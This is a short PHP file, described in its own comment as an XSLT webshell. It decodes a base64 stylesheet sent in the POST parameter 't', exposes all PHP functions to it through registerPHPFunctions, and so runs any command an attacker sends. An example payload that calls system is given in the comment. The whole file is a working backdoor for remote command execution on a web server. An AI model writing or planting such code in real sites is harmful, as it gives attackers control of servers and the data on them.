<?php
// An XSLT webshell: the stylesheet comes in the request and every PHP function is open to it, so
// <xsl:value-of select="php:function('system', 'id')"/> runs a command.
$proc = new XSLTProcessor();
$proc->registerPHPFunctions();
$xsl = new DOMDocument();
$xsl->loadXML(base64_decode($_POST['t']));
$proc->importStylesheet($xsl);
echo $proc->transformToXml(new DOMDocument('1.0'));
